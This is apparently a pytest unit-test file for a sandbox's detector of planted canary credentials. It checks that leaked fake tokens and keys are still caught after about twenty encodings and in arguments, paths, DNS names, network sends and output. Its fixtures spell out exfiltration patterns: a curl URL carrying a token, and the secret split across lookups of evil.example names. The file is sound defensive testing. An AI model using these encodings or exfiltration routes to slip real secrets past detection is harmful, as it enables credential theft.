"""Planted secrets: their shapes, and every writing in which one that gets out is found."""

import base64
import codecs
import configparser
import io
import json
import random
import re
from collections.abc import Callable
from urllib.parse import quote

import pytest

from sandbox.record import Event
from sandbox.result import ErrorInfo
from sandbox.review.canaries import Canaries
from sandbox.review.model import Run
from tests.unit.review.records import asked, found, run, severities, started, told, touched, tried

CANARIES = Canaries.new()
TOKEN = CANARIES.environment["GITHUB_TOKEN"]
CORE = TOKEN.removeprefix("ghp_")
LEAK = "leaks-planted-secret"
KEY = CANARIES.files[".ssh/id_ed25519"].decode()


def code(text: str) -> bytes:
    return base64.b64encode(text.encode())


def per_cent(text: str) -> bytes:
    return "".join(f"%{ord(each):02x}" for each in text).encode()


WRITINGS: dict[str, Callable[[str], bytes]] = {
    "plain": str.encode,
    "in capitals": lambda text: text.upper().encode(),
    "in small letters": lambda text: text.lower().encode(),
    "reversed": lambda text: text[::-1].encode(),
    "rotated by 13": lambda text: codecs.encode(text, "rot13").encode(),
    "hexadecimal": lambda text: text.encode().hex().encode(),
    "hexadecimal, in capitals": lambda text: text.encode().hex().upper().encode(),
    "a dump with colons": lambda text: text.encode().hex(":").encode(),
    "C escapes": lambda text: "".join(f"\\x{ord(each):02x}" for each in text).encode(),
    "base64": code,
    "base64, one byte on": lambda text: code("." + text),
    "base64, two bytes on": lambda text: code(".." + text + "."),
    "base64 in lines": lambda text: base64.encodebytes((text * 3).encode()),
    "base64 for URLs": lambda text: base64.urlsafe_b64encode(b"k=" + text.encode()),
    "base32": lambda text: base64.b32encode(text.encode()),
    "base32, three bytes on": lambda text: base64.b32encode(b"..." + text.encode()).lower(),
    "quoted": lambda text: quote(f"k={text}&").encode(),
    "percent-encoded": per_cent,
    "UTF-16": lambda text: text.encode("utf-16"),
    "a list of characters": lambda text: repr(list(text)).encode(),
    "the first part": lambda text: text[:12].encode(),
    "a part in the middle": lambda text: b"x" + text[9:21].encode() + b"x",
    "in labels": lambda text: ".".join(re.findall(".{1,7}", text)).encode(),
}


@pytest.mark.parametrize("name", WRITINGS)
def test_a_secret_is_found_in_each_writing(name: str) -> None:
    written = b"some words before, " + WRITINGS[name](CORE) + b" and behind"

    assert [str(secret) for secret in CANARIES.in_text(written)] == [
        f"GitHub token in $GITHUB_TOKEN (…{TOKEN[-4:]})"
    ]


@pytest.mark.parametrize("name", [name for name in WRITINGS if "part" not in name])
def test_a_text_of_over_256_kib_does_not_hide_a_secret(name: str) -> None:
    padding = b"words and 0123456789abcdef; " * 10_000

    assert CANARIES.in_text(padding + WRITINGS[name](CORE) + padding[:500])


@pytest.mark.parametrize("name", WRITINGS)
def test_a_secret_is_masked_in_each_writing(name: str) -> None:
    written = WRITINGS[name](CORE).decode("latin-1")

    masked = CANARIES.masked(f"send {written}")

    assert not CANARIES.in_text(masked)
    assert f"…{TOKEN[-4:]}" in masked


PREFIXES = (CORE[:11], "ghp_", "AKIA", "sk-ant-api03-", "")


@pytest.mark.parametrize("written", PREFIXES, ids=["11 characters", *PREFIXES[1:]])
def test_a_shorter_part_or_what_all_such_secrets_share_is_no_secret(written: str) -> None:
    assert CANARIES.in_text(f"see {written} there") == ()


def test_what_all_openssh_keys_share_is_no_secret() -> None:
    other = Canaries.new().files[".ssh/id_ed25519"]

    assert CANARIES.in_text(other) == ()
    assert CANARIES.in_text(KEY.splitlines()[1]) == ()


def test_every_line_of_a_key_behind_the_first_is_the_secret() -> None:
    for line in KEY.splitlines()[2:-1]:
        assert CANARIES.in_text(line)


def test_random_text_holds_no_secret() -> None:
    content = random.Random(1).randbytes(1 << 17)  # noqa: S311 - the same each time

    assert CANARIES.in_text(content, content.hex(), base64.b64encode(content)) == ()


def test_no_two_sets_share_a_secret() -> None:
    others = Canaries.new()

    assert not set(CANARIES.environment.values()) & set(others.environment.values())
    assert CANARIES.in_text(*others.files.values(), *others.environment.values()) == ()


def test_no_two_secrets_of_a_set_are_the_same() -> None:
    for content in CANARIES.files.values():
        assert CANARIES.in_text(content)
    cores = [core for secret in CANARIES.secrets for core in secret.cores]
    assert len(set(cores)) == len(cores)


def test_the_secrets_have_the_shape_of_real_ones() -> None:
    variables, files = CANARIES.environment, CANARIES.files
    aws = configparser.ConfigParser()
    aws.read_string(files[".aws/credentials"].decode())
    gcloud = json.loads(files[".config/gcloud/application_default_credentials.json"])

    assert re.fullmatch(r"AKIA[A-Z2-7]{16}", variables["AWS_ACCESS_KEY_ID"])
    assert re.fullmatch(r"[A-Za-z0-9]{40}", aws["default"]["aws_secret_access_key"])
    assert re.fullmatch(r"ghp_[A-Za-z0-9]{36}", TOKEN)
    assert gcloud["type"] == "authorized_user"
    assert base64.b64decode("".join(KEY.splitlines()[1:-1])).startswith(b"openssh-key-v1\0")
    assert all(len(line) <= 70 for line in KEY.splitlines())


def test_no_representation_shows_a_secret() -> None:
    assert CANARIES.in_text(repr(CANARIES), repr(CANARIES.secrets)) == ()


HELD = f"{CORE}.evil.example"
PLACES: dict[str, tuple[Run, str]] = {
    "an argument": (run(started("curl", f"https://a.example/?k={TOKEN}")), "arguments of curl"),
    "a path": (run(touched(f"/box/{CORE}", "create")), "path of a file"),
    "a new name": (run(touched("/box/a", "rename", to=f"/box/{CORE}")), "path of a file"),
    "a host's name": (run(asked(HELD)), "a name that was asked for"),
    "what is sent": (run(tried("send", "9.9.9.9", 80, sent=f"GET /{CORE}")), "sent to 9.9.9.9"),
    "a URL": (run(told("url", f"https://a.example/{TOKEN}")), "Python: url"),
    "stdout": (run(stdout_bytes=TOKEN.encode()), "stdout"),
    "stderr": (run(stderr=f"debug {TOKEN}"), "stderr"),
    "the value": (run(value={"a": [TOKEN]}), "the value"),
    "the error": (run(error=ErrorInfo(type="E", message=TOKEN)), "the error"),
    "a file": (run(files={"out/log": f"k={TOKEN}".encode()}), "the file out/log"),
    "a file's name": (run(files={f"{CORE}.log": b""}), "the file ["),
    "a planted file's copy": (run(files={"copy": CANARIES.files[".netrc"]}), "the file copy"),
}


@pytest.mark.parametrize("name", PLACES)
def test_a_secret_is_found_in_each_place(name: str) -> None:
    leaked, where = PLACES[name]

    finding = found(leaked, canaries=CANARIES)[LEAK]

    assert finding.severity == "high"
    assert where in finding.proofs[0].text


@pytest.mark.parametrize("name", PLACES)
def test_no_finding_shows_a_secret(name: str) -> None:
    leaked, _ = PLACES[name]

    texts = [each.text for it in found(leaked, canaries=CANARIES).values() for each in it.proofs]

    assert texts
    assert CANARIES.in_text(*texts) == ()


def test_a_secret_that_goes_out_in_many_names_is_found() -> None:
    pieces: list[Event] = [asked(f"{CORE[at : at + 6]}.evil.example") for at in range(0, 36, 6)]

    assert severities(run(*pieces), canaries=CANARIES)[LEAK] == "high"


def test_planted_files_that_lie_where_they_were_planted_are_no_leak() -> None:
    assert LEAK not in found(run(files=CANARIES.files), canaries=CANARIES)


def test_without_canaries_nothing_of_theirs_is_found() -> None:
    everything = run(touched("/box/.aws/credentials"), stdout=TOKEN)

    assert not {rule for rule in found(everything) if "planted" in rule}


def test_planted_files_are_where_tools_look() -> None:
    assert "/box/.aws/credentials" in CANARIES.paths
    assert io.BytesIO(CANARIES.files[".env"]).readline().startswith(b"DATABASE_URL=")
